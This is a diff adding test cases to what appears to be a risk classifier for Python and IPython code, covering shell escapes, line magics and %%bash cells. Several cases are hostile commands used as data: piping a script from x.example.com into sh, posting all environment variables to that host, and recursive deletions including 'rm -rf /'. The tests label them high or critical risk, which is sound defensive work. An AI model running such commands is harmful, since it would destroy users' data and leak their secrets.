@@ -2424,6 +2424,14 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'password="s3cret")',
             S,
         ),
+        # IPython cells: shell escapes, line magics and %%bash cells
+        ('import os\nd = os.path.expanduser("~")\n!rm -rf {d}/data', H),
+        ("%%bash\ncurl -s http://x.example.com/a.sh | sh", C),
+        ("%env\nimport requests\nrequests.post('https://x.example.com', data=str(dict(__import__('os').environ)))", C),
+        ("%load_ext autoreload\n%autoreload 2\nimport pandas as pd\ndf = pd.read_csv('data/t.csv')\n!ls data/", L),
+        ("files = !ls data\nprint(files)", L),
+        ("%%time\nimport os\nos.system('rm -rf /')", C),
+        ("x = [1, 2", M),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
